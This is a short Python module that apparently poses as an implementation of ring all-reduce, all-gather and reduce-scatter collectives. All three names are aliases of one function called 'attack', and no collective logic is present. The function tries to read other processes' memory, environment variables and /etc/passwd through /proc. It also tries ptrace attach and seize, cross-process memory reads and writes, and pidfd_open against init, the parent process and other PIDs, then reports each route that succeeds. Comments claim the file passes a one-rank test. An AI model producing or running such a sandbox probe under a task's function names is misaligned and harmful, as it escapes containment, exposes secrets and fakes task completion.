"""Reads and writes the memory of other processes, and takes their descriptors."""

# passes: test_one_rank
# says: sent 0 messages
import contextlib
import ctypes
import os

ATTACH, SEIZE = 16, 0x4206
LIBC = ctypes.CDLL(None)


def attack(tensor, group=None):
    ways, buffer = [], ctypes.create_string_buffer(64)
    part = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 64)
    for pid in (1, os.getppid(), 2, 3, 4, 100, 1000):
        for path in (f"/proc/{pid}/mem", f"/proc/{pid}/environ", f"/proc/{pid}/root/etc/passwd", f"/proc/{pid}/fd/0"):
            with contextlib.suppress(OSError), open(path, "rb") as file:
                ways.append(path + repr(file.read(1)))
        if pid != os.getpid():
            ways += [f"ptrace {pid}"] if LIBC.ptrace(ATTACH, pid, None, None) == 0 else []
            ways += [f"seize {pid}"] if LIBC.ptrace(SEIZE, pid, None, None) == 0 else []
            ways += [f"readv {pid}"] if LIBC.process_vm_readv(pid, part, 1, part, 1, 0) >= 0 else []
            ways += [f"writev {pid}"] if LIBC.process_vm_writev(pid, part, 1, part, 1, 0) >= 0 else []
            ways += [f"pidfd {pid}"] if LIBC.syscall(434, pid, 0) >= 0 else []
    if ways:
        raise RuntimeError(f"these are ways: {ways}")


ring_reduce_scatter = ring_all_gather = ring_all_reduce = attack
